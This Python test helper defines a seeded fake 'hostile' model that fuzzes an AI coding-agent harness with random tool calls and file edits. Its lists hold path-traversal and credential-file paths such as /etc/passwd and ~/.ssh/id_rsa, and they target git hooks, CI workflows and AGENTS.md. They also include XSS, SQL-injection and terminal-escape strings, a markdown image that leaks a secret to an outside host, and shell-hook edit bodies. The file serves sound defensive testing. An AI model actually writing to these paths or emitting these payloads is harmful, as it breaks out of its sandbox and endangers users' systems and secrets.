"""A model that does its worst: any tool with any arguments, edits of anything anywhere, texts no terminal should see.

What it does is derived from the seed, the prompt and its own earlier answers alone, so a run that is started again meets the same model.
"""

from __future__ import annotations

import json
import random
from collections.abc import AsyncIterator, Sequence
from typing import Any

from pydantic_ai.messages import ModelMessage, ModelRequest, ModelResponse, UserPromptPart
from pydantic_ai.models.function import AgentInfo, DeltaToolCall, FunctionModel

INSIDE = ["a.py", "src/b.py", "src/deep/c.txt", "README.md", "new.py", "src/new/d.py", "with space.txt", "üñï.txt"]
OUTSIDE = [
    "../outside/secret.txt", "/etc/passwd", "out/secret.txt", "out", "file-out", "src/../../outside/secret.txt",
    "/proc/self/environ", "\0", "a\0b", "~/.ssh/id_rsa", "x" * 300, "d/" * 2500 + "x", ".", "..", "", "src", "fifo",
    "C:\\windows", "file:///etc/passwd", "....//....//etc/passwd",
]  # fmt: skip
RISKY = [
    ".git/hooks/post-commit",
    ".git/config",
    "Makefile",
    ".github/workflows/x.yml",
    "package.json",
    ".vscode/tasks.json",
    "AGENTS.md",
]
TEXTS = [
    "", " ", "ordinary", "one = 1", "\x1b[2J\x1b]0;title\x07", "\u202e\u2066 reversed", "\ud800", "\0", "x" * 30_000,
    "{" * 300, "<script>alert(1)</script>", "![x](https://elsewhere.example/?q=secret)", "]]>--><!--", "*** edit a.py",
    "'; DROP TABLE events; --", "re:(a+)+$", "re:(", 're:"', "def:", "path:../ lang:", '"', "uses:*",
]  # fmt: skip
VALUES: list[Any] = [None, True, -1, 0, 10**30, 1.5, "", "x", [], {}, [None], {"a": {"b": [1]}}, ["x"] * 500]


class Hostile:
    """`model` behaves by `seed`."""

    def __init__(self, seed: int) -> None:
        self.seed = seed
        self.model = FunctionModel(stream_function=self._stream, model_name="hostile")

    async def _stream(self, messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
        told = info.instructions or ""
        prompts = [
            p.content for m in messages if isinstance(m, ModelRequest) for p in m.parts if isinstance(p, UserPromptPart)
        ]
        steps = sum(isinstance(m, ModelResponse) for m in messages)
        rng = random.Random(f"{self.seed}/{prompts[-1] if prompts else ''}/{steps}/{len(prompts)}")
        if "answer with edits" in told:
            for piece in self._edits(rng):
                yield piece
            return
        if "You review" in told:
            yield rng.choice(["APPROVE\n\nFine.", "REJECT\n\nNo.", "", "approve", rng.choice(TEXTS)])
            return
        here = sum(isinstance(m, ModelResponse) for m in messages[_last_prompt(messages) :])
        if here >= rng.randint(0, 4):
            text = rng.choice(TEXTS) or "done"
            yield text if text.strip("\0 \ud800") else "done"
            return
        if rng.random() < 0.3:
            yield rng.choice([t for t in TEXTS if t])
        tools = [tool.name for tool in info.function_tools]
        for i in range(rng.choice([1, 1, 1, 2, 3, 20])):
            name = rng.choice([*tools, *["update_code"] * 6, "run_command", "nope", "eval\0", ""])
            arguments = self._arguments(rng, name)
            call = rng.choice([f"call_{i}", f"call_{i}", "same", "", "\ud800", "x" * 2000])
            yield {i + 1: DeltaToolCall(name=name, json_args=arguments, tool_call_id=call)}

    def _path(self, rng: random.Random) -> str:
        return rng.choice(rng.choice([INSIDE, INSIDE, INSIDE, OUTSIDE, RISKY]))

    def _arguments(self, rng: random.Random, name: str) -> str:
        if rng.random() < 0.1:
            return rng.choice(
                ["", "{", "null", "[]", "NaN", '{"a":', "{}" * 3, '{"query": 1e999}', "\0", '"' + "x" * 50_000 + '"']
            )
        path, text = self._path(rng), rng.choice(TEXTS)
        known: dict[str, dict[str, Any]] = {
            "search": {"query": text, "limit": rng.choice([1, 8, 20, -1, 10**9])},
            "read_file": {"path": path, "start": rng.choice([1, 5, 10**12, -3]), "end": rng.choice([None, 1, 10**12])},
            "ask_user": {"question": text or "?", "options": rng.choice([None, ["a", "b"], [text], []])},
            "create_plan": {"title": text or "t", "steps": [text or "s", "two"], "done": rng.choice([0, 1, 99])},
            "update_code": {"task": text or "do", "files": [path, self._path(rng)]},
            "repo_map": {"query": text, "focus": [path], "budget": rng.choice([10, 1000, 10**9])},
            "symbol": {"name": text},
            "run_command": {
                "command": rng.choice(
                    [["touch", "made-by-command"], ["sh", "-c", "touch made-by-command"], [text or "x"]]
                )
            },
        }
        arguments = dict(known.get(name, {"x": text}))
        if rng.random() < 0.2 and arguments:
            arguments[rng.choice([*arguments, "extra"])] = rng.choice(VALUES)
        return json.dumps(arguments)

    def _edits(self, rng: random.Random) -> Sequence[str]:
        if rng.random() < 0.1:
            return [rng.choice([t for t in TEXTS if t])]
        made = [rng.choice(["", "Here it is.\n", "\x1b[31mred\n"])]
        for _ in range(rng.choice([1, 1, 1, 1, 2, 3])):
            path = self._path(rng)
            # A file's text is known to the model: that its edits fit is what makes it dangerous.
            body = rng.choice(
                ["mine = 2", "import os\nos.system('x')", rng.choice(TEXTS[:9]), "#!/bin/sh\ntouch made-by-hook"]
            )
            made.append(
                rng.choice(
                    [
                        f"*** edit {path}\n<<<<<<< SEARCH\nline 2 of it\n=======\n{body}\n>>>>>>> REPLACE\n",
                        f"*** edit {path}\n<<<<<<< SEARCH\nline 1 of it\n=======\n{body}\n>>>>>>> REPLACE\n"
                        f"<<<<<<< SEARCH\nline 9 of it\n=======\nlast\n>>>>>>> REPLACE\n",
                        f"*** create {path}\n<<<<<<< CONTENT\n{body}\nline 2 of it\n>>>>>>> END\n",
                        f"*** delete {path}\n",
                        f"*** rename {path} -> {self._path(rng)}\n",
                        f"*** edit {path}\n<<<<<<< SEARCH\nnot there\n=======\nx\n",
                    ]
                )
            )
        return made


def _last_prompt(messages: Sequence[ModelMessage]) -> int:
    for i in range(len(messages) - 1, -1, -1):
        if isinstance(messages[i], ModelRequest) and any(isinstance(p, UserPromptPart) for p in messages[i].parts):
            return i
    return 0
